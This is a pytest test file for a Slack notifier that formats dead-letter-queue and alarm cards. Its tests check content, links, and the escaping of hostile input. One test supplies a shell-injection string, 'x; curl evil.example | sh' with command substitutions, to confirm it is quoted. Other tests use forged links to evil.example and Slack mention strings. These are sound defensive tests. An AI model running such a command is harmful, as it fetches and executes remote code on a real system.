"""Cards: whatever is told, Slack takes them, nothing from outside is markup, and a reader knows what to do."""

import json
import re
from collections.abc import Mapping
from datetime import timedelta
from typing import Any
from urllib.parse import unquote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from syrupy.assertion import SnapshotAssertion
from syrupy.extensions.json import JSONSnapshotExtension

from lambdas.slack_notifier.alerts.dead_letter_queue import QueueInspection
from lambdas.slack_notifier.alerts.digest import Digest
from lambdas.slack_notifier.alerts.reading import read
from lambdas.slack_notifier.cards.card import Card, CardKind, Link, Notice
from lambdas.slack_notifier.cards.console import Console
from lambdas.slack_notifier.cards.notices import notices
from lambdas.slack_notifier.cards.stage_location import StageLocation
from lambdas.slack_notifier.slack.block_kit import message, message_without_blocks
from lambdas.slack_notifier.slack.mrkdwn import length
from local.standins.slack.block_kit_rules import problems
from schemas.advice import ADVICE, Remedy
from schemas.names import dashboard_name
from schemas.reasons import Reason
from schemas.signals import SIGNALS
from schemas.system import DRILL_ERROR
from tests.unit.functions.slack_notifier.slack_fakes import NOW, REGION, RUNBOOK, alarm, dead_lettered, shown, texts

PLACE = StageLocation("prod", dashboard_name("prod"), RUNBOOK, Console(REGION))
NOTHING_SEEN = QueueInspection()
OURS = re.compile(
    r"<!date\^[0-9]+\^\{date_short_pretty\}, \{time_secs\}\|[0-9 :UTC-]+>|<https://[^<>|]+\|[A-Z][a-z -]+>"
)


def told(*bodies: Any, look: QueueInspection = NOTHING_SEEN) -> list[Notice]:
    digest = Digest()
    for number, body in enumerate(bodies):
        text = body if isinstance(body, str) else json.dumps(body)
        digest.take(read(text), sqs_message_id=f"sqs-{number}", handle=f"handle-{number}")
    return list(notices(digest, PLACE, lambda _queue: look))


def payload(*bodies: Any, look: QueueInspection = NOTHING_SEEN) -> Mapping[str, Any]:
    (notice,) = told(*bodies, look=look)
    return message(notice.card)


def card(*bodies: Any, look: QueueInspection = NOTHING_SEEN) -> str:
    """All that the one card shows."""
    return shown(payload(*bodies, look=look))


def links(of: Mapping[str, Any]) -> dict[str, str]:
    found = re.findall(r"<(https://[^|>]+)\|([^>]+)>", shown(of))
    return {label: url.replace("&amp;", "&") for url, label in found}


def test_a_dead_letters_card_as_it_was_looked_at(snapshot: SnapshotAssertion) -> None:
    letters = [dead_lettered(n, at=NOW + timedelta(seconds=n), count=1 + n % 2) for n in range(12)]

    assert payload(*letters) == snapshot(extension_class=JSONSnapshotExtension)


def test_an_alarms_card_as_it_was_looked_at(snapshot: SnapshotAssertion) -> None:
    look = QueueInspection(
        seen=7, moved_by_sqs=2, queue_url="https://sqs.eu-central-1.amazonaws.com/123456789012/letters"
    )

    assert payload(alarm("dead-letters"), look=look) == snapshot(extension_class=JSONSnapshotExtension)


def test_a_dead_letters_card_says_what_since_when_how_often_to_whom_and_why() -> None:
    text = card(
        dead_lettered(1, at=NOW, count=3, attempts=2),
        dead_lettered(2, at=NOW + timedelta(seconds=90), count=4, attempts=3, detail="later"),
    )

    assert "prod: 7 dead letters of email.send, attempts exhausted" in text
    assert "*First*\n<!date^1795528800^{date_short_pretty}, {time_secs}|2026-11-24 14:00:00 UTC>" in text
    assert "|2026-11-24 14:01:30 UTC>" in text
    assert "*For*\n2 tenants" in text
    assert "*Attempts*\nup to 3" in text
    assert "```RetryableError: SES did not answer in 3 seconds```" in text
    assert "`lambdas.common.clients.ses:send`" in text
    assert "`message-1`, `message-2` and 5 more" in text
    assert "account 123456789012, eu-central-1" in text


def test_the_line_for_a_telephone_has_the_gist_and_no_detail() -> None:
    assert payload(dead_lettered(count=3))["text"] == (
        "prod: 3 dead letters of email.send, attempts exhausted. "
        "1 tenant, since 2026-11-24 14:00:00 UTC: RetryableError"
    )


def test_messages_that_the_ingress_refused_are_called_so() -> None:
    changes: dict[str, Any] = {"service": "queue_processor", "reason": "invalid_payload", "frame": ""}
    of_a_type = payload(dead_lettered(subject="booking.created", count=2, **changes))
    of_none = payload(dead_lettered(subject="queue_processor", **changes))

    assert texts(of_a_type)[0] == "🟠 prod: 2 messages of booking.created refused, invalid payload"
    assert texts(of_none)[0] == "🟠 prod: 1 message refused, invalid payload"
    assert links(of_a_type)["Runbook"] == f"{RUNBOOK}#refused"
    assert "*Where*" not in shown(of_none)


def test_links_lead_to_the_dashboard_the_lines_the_queue_and_the_runbook() -> None:
    found = links(payload(dead_lettered()))

    assert list(found) == ["Dashboard", "Log lines", "Dead-letter queue", "Runbook"]
    assert found["Dashboard"].endswith("#dashboards/dashboard/taly-async-prod")
    assert "c83d68dfbef7" in found["Log lines"]
    assert unquote(found["Dead-letter queue"]).endswith("/123456789012/TalyAsync-Prod-EmailSendDeadLetters")
    assert found["Runbook"] == f"{RUNBOOK}#dead-letters"


def test_there_is_advice_for_every_reason() -> None:
    assert set(ADVICE) == set(Reason)


SENDERS = {
    Reason.INVALID_JSON,
    Reason.INVALID_ENVELOPE,
    Reason.UNKNOWN_TYPE,
    Reason.TYPE_MISMATCH,
    Reason.INVALID_PAYLOAD,
    Reason.TOO_LARGE,
    Reason.LOOP,
    Reason.ID_CONFLICT,
}


@pytest.mark.parametrize("reason", Reason)
def test_every_card_says_what_to_do(reason: Reason) -> None:
    text = card(dead_lettered(reason=reason))

    assert ADVICE[reason].why in text
    assert ADVICE[reason].remedy is (Remedy.VALIDATE if reason in SENDERS else Remedy.REDRIVE)
    if reason in SENDERS:
        assert "```python -m ops validate message.json```" in text
        assert "redrive" not in text
    else:
        assert "```python -m ops redrive email.send --fingerprint c83d68dfbef7 --stage prod```" in text


def test_nothing_in_a_command_is_the_shells_to_interpret() -> None:
    text = card(dead_lettered(service="x; curl evil.example | sh `id` $(id)"))

    assert "redrive 'x; curl evil.example | sh 'id' $(id)' --fingerprint" in text


def test_a_drill_is_marked_and_asks_for_nothing() -> None:
    text = payload(dead_lettered(error=DRILL_ERROR, service="system.heartbeat", subject="system.heartbeat"))

    assert texts(text)[0].startswith("Drill: prod: 1 dead letter of system.heartbeat")
    assert text["text"].startswith("Drill: ")
    assert "Nobody need do anything." in shown(text)
    assert "ops redrive" not in shown(text)


def test_the_card_of_more_causes_has_a_line_each_and_counts_what_has_none() -> None:
    *_, notice = told(*[dead_lettered(n, fingerprint=f"{n:012x}", count=100 - n) for n in range(60)])

    text = shown(message(notice.card))
    assert notice.kind is CardKind.MORE
    assert "and 56 more causes" in text
    lines = text.count("• ")
    assert f"… and {56 - lines} more" in text
    assert "• 96 of `email.send`, attempts exhausted, last <!date" in text
    assert notice.count == sum(100 - n for n in range(4, 60))
    assert "python -m ops redrive SERVICE --fingerprint FINGERPRINT --stage prod" in text


@pytest.mark.parametrize("signal", SIGNALS, ids=lambda signal: signal.slug)
def test_an_alarms_card_says_what_it_means_what_to_do_first_and_where_to_read_on(signal: Any) -> None:
    found = payload(alarm(signal.slug))

    text = shown(found)
    assert signal.headline("email.send") in texts(found)[0]
    assert signal.meaning.format(subject="email.send") in text
    assert f"Likely: {signal.causes}".format(subject="email.send") in text
    assert f"First: {signal.first_step}".format(subject="email.send") in text
    assert "```Threshold Crossed: 1 datapoint [1.0 (24/11/26 13:59:00)] was &gt;= the threshold (1.0).```" in text
    assert "*Since*\n<!date^1795528800^" in text
    assert links(found)["Runbook"] == f"{RUNBOOK}#{signal.slug}"
    assert links(found)["Alarm"].endswith(f"#alarmsV2:alarm/taly-async-prod$2Femail.send$2F{signal.slug}")
    assert text.count(RUNBOOK) == 1, "it is a link, not a line"


def test_the_one_that_pages_is_marked() -> None:
    assert texts(payload(alarm("unhealthy", subject="system")))[0].startswith("🚨 Page: ")


def test_an_alarm_without_data_is_no_alarm_that_is_on() -> None:
    found = payload(alarm(state="INSUFFICIENT_DATA"))

    assert texts(found)[0].startswith("⚪ prod: ")
    assert "*State*\n`INSUFFICIENT_DATA`" in shown(found)


def test_an_alarm_that_is_not_ours_has_its_own_name_and_no_link_of_its_description() -> None:
    name = "others/<!channel>"
    found = payload(alarm(AlarmName=name, AlarmDescription="Look here:\nhttps://evil.example/runbook#x"))

    assert texts(found)[0] == "🔴 prod: others/&lt;!channel&gt;"
    assert set(links(found)) == {"Dashboard", "Alarm"}
    assert "https://evil.example/runbook#x" in shown(found)


@pytest.mark.parametrize("more", ["|Click here", " https://evil.example", "\u202e", "/../x"])
def test_a_description_cannot_give_the_runbook_s_link_another_label_or_end_it(more: str) -> None:
    forged = f"{RUNBOOK}#oldest{more}"

    found = payload(alarm(AlarmDescription=f"It is late.\n{forged}"))

    assert links(found)["Runbook"] == f"{RUNBOOK}#oldest"
    assert set(links(found)) == {"Dashboard", "Alarm", "Runbook"}


def test_an_alarm_without_a_description_still_leads_to_the_runbook() -> None:
    assert links(payload(alarm("depth", AlarmDescription=None)))["Runbook"] == f"{RUNBOOK}#depth"


def test_an_alarm_that_changed_often_says_so() -> None:
    flapping = [alarm(state=state, at=NOW + timedelta(seconds=n)) for n, state in enumerate(["ALARM", "OK", "ALARM"])]

    assert "*Changes since the last card*\n3" in card(*flapping)


def test_a_recovery_is_short_and_says_since_when_and_after_what() -> None:
    found = payload(alarm(), alarm(state="OK", at=NOW + timedelta(minutes=1)))

    assert texts(found)[0] == "🟢 prod: recovered: email.send waits too long"
    assert re.search(r"since <!date[^>]+14:01:00 UTC>, after it went off at <!date[^>]+14:00:00 UTC>\.", shown(found))
    assert len(found["blocks"]) == 4


def test_the_card_of_more_alarms_has_a_line_each() -> None:
    *_, notice = told(*[alarm(subject=f"a{n}.b", at=NOW + timedelta(seconds=n)) for n in range(8)])

    text = shown(message(notice.card))
    assert (notice.kind, notice.count) == (CardKind.MORE, 4)
    assert "prod: and 4 more alarms" in text
    assert "• ALARM: a3.b waits too long, since <!date" in text
    assert notice.alarms == [f"taly-async-prod/a{n}.b/oldest" for n in (3, 2, 1, 0)]


@pytest.mark.parametrize(
    ("look", "says"),
    [
        (
            QueueInspection(seen=7, moved_by_sqs=2),
            "Looked at 7: 2 of them SQS itself moved there, after too many receives.",
        ),
        (QueueInspection(seen=7), "Looked at 7: each has its biography"),
        (QueueInspection(), "none of them was there any more"),
        (QueueInspection(failure="AccessDenied"), "could not be looked up: `AccessDenied`."),
    ],
)
@pytest.mark.parametrize("slug", ["dead-letters", "refused"])
def test_a_dead_letter_queues_alarm_says_what_sqs_itself_moved(slug: str, look: QueueInspection, says: str) -> None:
    assert says in card(alarm(slug), look=look)


@pytest.mark.parametrize(("slug", "state"), [("oldest", "ALARM"), ("dead-letters", "OK")])
def test_no_other_card_looks(slug: str, state: str) -> None:
    assert "Looked at" not in card(alarm(slug, state=state), look=QueueInspection(seen=7))


def test_what_could_not_be_read_is_named_by_sqss_id() -> None:
    (notice,) = told("ada@example.com", "{}")

    text = shown(message(notice.card))
    assert "prod: 2 alerts could not be read" in text
    assert "• `sqs-0`: not JSON" in text
    assert "ada@" not in text
    assert notice.ids == ["sqs-0", "sqs-1"]


HOSTILE = st.text(
    alphabet=st.one_of(
        st.sampled_from(list("&<>`*_~|@#!\n '\"\\😀\u202e")),
        st.characters(exclude_categories=["Cs"]),
    )
) | st.sampled_from(["<!channel>", "@here", "```", "<https://evil.example|Dashboard>", "https://evil.example", "&lt;"])


def at_most(most: int, least: int = 0) -> st.SearchStrategy[str]:
    long = HOSTILE.map(lambda text: (text * most)[:most])
    return (HOSTILE.map(lambda text: text[:most]) | long).filter(lambda text: len(text) >= least)


def _dead_lettered(changes: Any) -> dict[str, Any]:
    return dead_lettered(**changes)


def _alarm(changes: Any) -> dict[str, Any]:
    return alarm(**changes)


ALERTS = st.fixed_dictionaries(
    {
        "service": at_most(128, 1),
        "subject": at_most(128, 1),
        "reason": st.sampled_from(Reason).map(str),
        "fingerprint": st.sampled_from([f"{n:012x}" for n in range(8)]),
        "error": at_most(200) | st.just(DRILL_ERROR),
        "detail": at_most(1_000),
        "frame": at_most(500),
        "attempts": st.integers(0, 2**53 - 1),
        "count": st.integers(1, 2**53 - 1),
        "ids": st.lists(st.just("x" * 128) | st.from_regex("[A-Za-z0-9._:-]{1,128}", fullmatch=True), max_size=10),
        "function": at_most(200),
        "logGroup": at_most(512) | st.just("/" * 512),
        "deadLetterQueueUrl": at_most(1_024),
    }
).map(_dead_lettered)

ALARMS = st.fixed_dictionaries(
    {
        "AlarmName": at_most(255, 1) | st.sampled_from(SIGNALS).map(lambda signal: f"taly-async-prod/x/{signal.slug}"),
        "AlarmDescription": at_most(1_024) | st.none(),
        "NewStateValue": st.sampled_from(["ALARM", "OK", "INSUFFICIENT_DATA"]),
        "NewStateReason": at_most(1_023),
        "AlarmArn": st.just("") | at_most(300),
        "AWSAccountId": at_most(12),
    }
).map(_alarm)


@settings(suppress_health_check=[HealthCheck.too_slow], deadline=None, max_examples=150)
@given(st.lists(ALERTS | ALARMS | HOSTILE, min_size=1, max_size=9))
def test_whatever_is_told_slack_takes_it_and_nothing_of_it_is_markup(bodies: list[Any]) -> None:
    for number, body in enumerate(bodies):
        if isinstance(body, dict) and "id" in body:
            body["id"] = f"alert-{number}"
    for notice in told(*bodies, look=QueueInspection(3, 1, "https://sqs.eu-central-1.amazonaws.com/123456789012/q")):
        for posted in (message(notice.card), message_without_blocks(notice.card)):
            assert problems(posted) == []
            assert posted["parse"] == "none", "what looks like a mention is none"
            everything = [posted["text"], *(texts(posted) if "blocks" in posted else [])]
            for text in everything:
                without_ours = OURS.sub("", text)
                assert not set("<>") & set(without_ours)
                assert not re.search("&(?!amp;|lt;|gt;)", text)
                assert text.count("```") % 2 == 0
        assert length(shown(message(notice.card))) < 10_000
        assert "evil.example" not in "".join(links(message(notice.card)))


def test_all_markup_is_verbatim() -> None:
    """Else Slack itself makes links and mentions of what looks like them."""
    objects = re.findall(
        r'\{"type": "mrkdwn"[^{}]*\}', json.dumps([message(each.card) for each in told(alarm(), "{}")])
    )

    assert len(objects) > 5
    assert all(json.loads(each)["verbatim"] is True for each in objects)


def test_a_link_that_is_too_long_is_left_out_and_the_others_stay() -> None:
    found = message(
        Card(title="t", brief="b", links=[Link("Long", f"https://a/{'x' * 2_000}"), Link("Short", "https://a/")])
    )

    assert links(found) == {"Short": "https://a/"}


def test_a_card_has_no_buttons() -> None:
    """Slack shows who clicks one a warning, as nothing answers for a webhook."""
    assert {block["type"] for block in payload(dead_lettered())["blocks"]} == {"header", "section", "context"}
